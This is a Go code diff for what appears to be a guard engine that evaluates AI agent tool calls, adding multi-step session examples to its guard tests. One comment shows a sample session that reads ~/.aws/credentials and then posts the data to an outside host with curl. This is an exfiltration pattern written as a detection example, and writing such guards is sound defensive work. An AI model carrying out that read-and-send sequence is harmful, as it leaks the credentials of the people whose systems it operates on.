@@ -96,12 +96,54 @@ func CheckExamples(packs []PackSpec) error {
 }
 
 func (e *Engine) fires(g *GuardSpec, example string) bool {
-	act := ExampleAction(g.On, example)
-	v := e.Evaluate(&act)
+	acts := ExampleSession(g.On, example)
+	var v Verdict
+	for i := range acts {
+		v = e.Evaluate(&acts[i])
+		if m, ok := acts[i].Memory.(*MapMemory); ok && i+1 < len(acts) {
+			m.Remember(v.Effects)
+		}
+	}
 	for _, h := range v.Hits {
 		if h.GuardID == g.ID {
 			return true
 		}
 	}
 	return false
+}
+
+// SessionSeparator separates the calls of an example that is a session:
+// "@Read ~/.aws/credentials >>> curl -d @x https://example.com". Each call
+// but the last runs first and what it does is remembered; the last is
+// judged against that memory. A call written "output: TEXT" is a tool's
+// output (PostToolUse), so an example can show a secret being read.
+const SessionSeparator = " >>> "
+
+// ExampleSession turns an example into the calls it stands for, in order,
+// sharing one in-process Memory when there is more than one (see
+// SessionSeparator); the caller evaluates them in order and Remembers each
+// one's Effects.
+func ExampleSession(on, example string) []Action {
+	parts := strings.Split(example, SessionSeparator)
+	if len(parts) == 1 {
+		if on == OnSession {
+			on = OnCommand
+		}
+		return []Action{ExampleAction(on, example)}
+	}
+	mem := NewMemory()
+	acts := make([]Action, len(parts))
+	for i, p := range parts {
+		p = strings.TrimSpace(p)
+		kind := OnCommand
+		if text, ok := strings.CutPrefix(p, "output: "); ok {
+			kind, p = OnOutput, text
+		} else if i == len(parts)-1 && on == OnOutput {
+			kind = OnOutput
+		}
+		acts[i] = ExampleAction(kind, p)
+		acts[i].SessionID = "example"
+		acts[i].Memory = mem
+	}
+	return acts
 }
